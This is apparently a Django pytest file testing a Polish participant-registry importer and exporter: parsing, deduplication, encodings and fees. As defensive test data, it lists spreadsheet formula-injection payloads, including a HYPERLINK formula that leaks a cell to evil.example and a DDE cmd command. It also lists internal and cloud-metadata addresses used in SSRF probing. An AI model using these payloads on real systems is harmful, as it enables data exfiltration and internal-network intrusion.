import json

import pytest
import yaml
from django.core.management import call_command
from openpyxl import Workbook

from results.models import AuditLogEntry, Edition, Participant
from results.registry.importer import import_registry
from results.registry.readers import RegistryFileError
from tests.registry.factory import HEADER, registry_with_malformed, write

pytestmark = [pytest.mark.django_db, pytest.mark.db_matrix]

GOOD = [
    "Gmina Żabia Wola;Gmina wiejska;45;www.zabiawola.pl;ug@zabiawola.pl;mazowieckie;5213017228;;1438092;Anna Wiśniewska",
    "Spółdzielnia Mieszkaniowa Przyszłość;spoldzielnia_mieszkaniowa;12;sm-przyszlosc.pl;biuro@sm-przyszlosc.pl, zarzad@sm-przyszlosc.pl;Łódzkie;;;;",
    "Wodociągi Kęckie sp. z o.o.;Spółka komunalna;91;https://wodociagi-kety.pl/;bok@wodociagi-kety.pl;małopolskie;;123456785;;",
]


def test_thousand_rows_with_fifty_malformed(tmp_path):
    synthetic = registry_with_malformed()
    path = tmp_path / "rejestr-1000.csv"
    path.write_bytes(synthetic.data)

    report = import_registry(path)
    assert set(report.rejected_lines) == synthetic.malformed_lines
    assert len(report.rejected_lines) == 50
    assert report.created == 950 and report.updated == 0 and report.unchanged == 0
    assert Participant.objects.count() == 950
    reasons = " ".join(e.reason for e in report.rejected)
    for expected in ("spacje", "nieznany rodzaj", "ujemna", "NIP", "powtarza się", "windows-1250"):
        assert expected in reasons

    again = import_registry(path)
    assert (again.created, again.updated, again.unchanged) == (0, 0, 950)
    assert set(again.rejected_lines) == synthetic.malformed_lines
    assert Participant.objects.count() == 950


def test_duplicate_keys_report_both_rows(tmp_path):
    path = write(
        tmp_path, [HEADER, GOOD[0], GOOD[1], GOOD[0].replace("Żabia Wola;", "Żabia Wola II;")]
    )
    report = import_registry(path)
    dup = [e for e in report.rejected if "powtarza" in e.reason]
    assert [e.line for e in dup] == [2, 4]
    assert "wierszu 4" in dup[0].reason and "wierszu 2" in dup[1].reason
    assert report.created == 1


def test_json_output_contract(tmp_path, capsys):
    path = write(tmp_path, [HEADER, *GOOD, "Zły;foo;-1;x;y;z;;;;"])
    with pytest.raises(SystemExit) as exited:
        call_command("participants", "import", str(path), "--json")
    assert exited.value.code == 1
    payload = json.loads(capsys.readouterr().out)
    assert set(payload) == {"created", "updated", "unchanged", "rejected"}
    assert payload["created"] == 3
    assert {r["field"] for r in payload["rejected"]} == {
        "kind",
        "employees",
        "website",
        "emails",
        "region",
    }
    assert all(r["line"] == 5 for r in payload["rejected"])


def test_edited_file_updates_never_duplicates(tmp_path):
    import_registry(write(tmp_path, [HEADER, *GOOD]))
    edited = [GOOD[0].replace(";45;", ";46;"), GOOD[1], GOOD[2].replace("bok@", "kontakt@")]
    report = import_registry(write(tmp_path, [HEADER, *edited]))
    assert (report.created, report.updated, report.unchanged) == (0, 2, 1)
    assert Participant.objects.count() == 3
    assert Participant.objects.get(nip="5213017228").employees == 46


def test_adding_a_nip_later_updates_the_same_participant(tmp_path):
    import_registry(write(tmp_path, [HEADER, GOOD[1]]))
    with_nip = GOOD[1].replace(";Łódzkie;;", ";Łódzkie;7740001454;")
    report = import_registry(write(tmp_path, [HEADER, with_nip]))
    assert (report.created, report.updated) == (0, 1)
    assert Participant.objects.get().identity_key == "nip:7740001454"


def test_dry_run_stores_nothing(tmp_path):
    report = import_registry(write(tmp_path, [HEADER, *GOOD]), dry_run=True)
    assert report.created == 3
    assert Participant.objects.count() == 0
    assert not AuditLogEntry.objects.exists()


def test_windows_1250_file_with_comma_delimiter(tmp_path):
    lines = [HEADER.replace(";", ","), *(g.replace(", ", " ").replace(";", ",") for g in GOOD)]
    report = import_registry(write(tmp_path, lines, encoding="cp1250"))
    assert report.encoding == "cp1250"
    assert report.created == 3 and not report.rejected
    assert Participant.objects.filter(name="Gmina Żabia Wola").exists()
    assert Participant.objects.get(name__startswith="Spółdzielnia").region == "lodzkie"


def test_utf8_with_bom_and_english_headers(tmp_path):
    header = "name,kind,employees,website,emails,region,nip,regon,teryt,contact"
    path = tmp_path / "r.csv"
    path.write_bytes(
        b"\xef\xbb\xbf"
        + f"{header}\nUrząd Gminy Kęty,gmina_miejsko_wiejska,120,kety.pl,ug@kety.pl,małopolskie,,,,\n".encode()
    )
    report = import_registry(path)
    assert report.created == 1
    p = Participant.objects.get()
    assert (
        p.name == "Urząd Gminy Kęty" and p.fee_pln_net == 8500 and p.website == "https://kety.pl/"
    )


def test_xlsx_rows_are_spreadsheet_rows(tmp_path):
    wb = Workbook()
    ws = wb.active
    ws.append(
        [
            "Nazwa",
            "Rodzaj",
            "Liczba pracowników",
            "Strona WWW",
            "E-mail",
            "Województwo",
            "NIP",
            "REGON",
        ]
    )
    ws.append(
        [
            "Gmina Gródek",
            "Gmina wiejska",
            30,
            "grodek.pl",
            "ug@grodek.pl",
            "podlaskie",
            5213017228,
            None,
        ]
    )
    ws.append([None] * 8)  # an empty row is skipped, but still counts for line numbers
    ws.append(
        [
            "Wspólnota Mieszkaniowa Słoneczna 5",
            "Wspólnota",
            -2,
            "wm-sloneczna.pl",
            "wm@wm-sloneczna.pl",
            "śląskie",
            None,
            15259640,
        ]
    )
    path = tmp_path / "r.xlsx"
    wb.save(path)
    report = import_registry(path)
    assert report.created == 1
    assert [(e.line, e.field) for e in report.rejected] == [(4, "employees")]


def test_yaml_lines_point_at_entries(tmp_path):
    doc = {
        "uczestnicy": [
            {
                "nazwa": "Powiat Sępoleński",
                "rodzaj": "powiat",
                "liczba_pracownikow": 150,
                "strona_www": "powiat-sepolno.pl",
                "email": ["starostwo@powiat-sepolno.pl"],
                "wojewodztwo": "kujawsko-pomorskie",
            },
            {
                "nazwa": "Zła",
                "rodzaj": "powiat",
                "liczba_pracownikow": 1,
                "strona_www": "zla.pl",
                "email": "zla@zla.pl",
                "wojewodztwo": "kujawsko-pomorskie",
                "nip": "1234567890",
            },
        ]
    }
    path = tmp_path / "r.yaml"
    path.write_text(yaml.safe_dump(doc, allow_unicode=True, sort_keys=False), encoding="utf-8")
    report = import_registry(path)
    assert report.created == 1
    assert len(report.rejected) == 1 and report.rejected[0].field == "nip"
    text = path.read_text(encoding="utf-8").splitlines()
    assert "Zła" in text[report.rejected[0].line - 1]


def test_unreadable_files_store_nothing(tmp_path):
    with pytest.raises(RegistryFileError, match="brakuje kolumn"):
        import_registry(write(tmp_path, ["a;b;c", "1;2;3"]))
    with pytest.raises(RegistryFileError, match="Nieobsługiwany format"):
        import_registry(write(tmp_path, ["x"], name="r.pdf"))
    broken = tmp_path / "broken.xlsx"
    broken.write_bytes(b"PK\x03\x04 not really a workbook")
    with pytest.raises(RegistryFileError):
        import_registry(broken)
    assert Participant.objects.count() == 0


def test_export_then_import_changes_nothing(tmp_path):
    import_registry(write(tmp_path, [HEADER, *GOOD]))
    out = tmp_path / "eksport.csv"
    call_command("participants", "export", "--format", "csv", "--output", str(out))
    report = import_registry(out)
    assert (report.created, report.updated, report.unchanged, report.rejected) == (0, 0, 3, [])


def test_export_json_carries_fees(tmp_path, capsys):
    import_registry(write(tmp_path, [HEADER, *GOOD]))
    call_command("participants", "export", "--format", "json")
    records = json.loads(capsys.readouterr().out)
    assert {r["name"]: r["fee_pln_net"] for r in records} == {
        "Gmina Żabia Wola": 4700,
        "Spółdzielnia Mieszkaniowa Przyszłość": 3900,
        "Wodociągi Kęckie sp. z o.o.": 8500,
    }


def test_import_enrols_into_edition(tmp_path):
    call_command("edition", "create", "--year", "2027")
    import_registry(write(tmp_path, [HEADER, *GOOD]), edition=Edition.objects.get(year=2027))
    assert Edition.objects.get(year=2027).participants.count() == 3


HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?"&A2,"Kliknij")',
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "=cmd|' /C calc'!A0",
]


def test_csv_export_neutralises_formulas_json_keeps_them_and_reimport_is_exact(tmp_path, capsys):
    rows = [
        GOOD[0]
        .replace("Gmina Żabia Wola", name.replace(";", ","))
        .replace("5213017228", "")
        .replace("www.zabiawola.pl", f"www.gmina{n}.pl")
        for n, name in enumerate(HOSTILE_NAMES)
    ]
    first = import_registry(write(tmp_path, [HEADER, *rows]))
    assert first.created == len(HOSTILE_NAMES), first.rejected
    out = tmp_path / "eksport.csv"
    call_command("participants", "export", "--format", "csv", "--output", str(out))
    cells = [line.split(";")[0] for line in out.read_text(encoding="utf-8").splitlines()[1:]]
    assert cells and all(c.lstrip('"')[:1] == "'" for c in cells), cells
    call_command("participants", "export", "--format", "json")
    names = {r["name"] for r in json.loads(capsys.readouterr().out)}
    assert names == {n.replace(";", ",") for n in HOSTILE_NAMES}
    again = import_registry(out)
    assert (again.created, again.updated, again.unchanged, again.rejected) == (0, 0, 5, [])


@pytest.mark.parametrize(
    "website",
    [
        "http://127.0.0.1/",
        "http://0177.0.0.1/",
        "http://127.1/",
        "http://2130706433/",
        "http://0.0.0.0/",
        "http://10.0.0.1/",
        "http://192.168.1.1/",
        "http://169.254.169.254/latest/meta-data/",
        "http://metadata.google.internal/",
        "http://127.0.0.1:22/",
        "http://user:pass@127.0.0.1/",
        "http://[::1]/",
        "http://[fd00::1]/",
        "http://[fe80::1]/",
        "http://[::ffff:127.0.0.1]/",
        "http://localhost/",
        "http://intranet.local/",
    ],
)
def test_private_and_internal_addresses_are_rejected_at_import(tmp_path, website):
    row = GOOD[0].replace("www.zabiawola.pl", website)
    report = import_registry(write(tmp_path, [HEADER, row]))
    assert report.created == 0
    assert [e.field for e in report.rejected] == ["website"], report.rejected
    # The test world (AUDITOR_ALLOW_PRIVATE_NETWORKS) may register its loopback sites.
    allowed = import_registry(write(tmp_path, [HEADER, row]), allow_test_domains=True)
    if website.endswith((".internal/", ".local/")) or "localhost" in website:
        return  # names pass only through the probe's guard, which resolves them
    assert allowed.created == 1, allowed.rejected


@pytest.mark.parametrize(
    ("website", "stored"),
    [
        ("http://[2606:4700:4700::1111]/", "http://[2606:4700:4700::1111]/"),
        (
            "https://[2001:4860:4860:0:0:0:0:8888]:8443/bip",
            "https://[2001:4860:4860::8888]:8443/bip",
        ),
        ("http://0177.0.0.1:18080/", "http://127.0.0.1:18080/"),
    ],
)
def test_ip_literals_are_stored_as_a_browser_reads_them(tmp_path, website, stored):
    row = GOOD[0].replace("www.zabiawola.pl", website)
    report = import_registry(write(tmp_path, [HEADER, row]), allow_test_domains=True)
    assert report.created == 1, report.rejected
    assert Participant.objects.get().website == stored
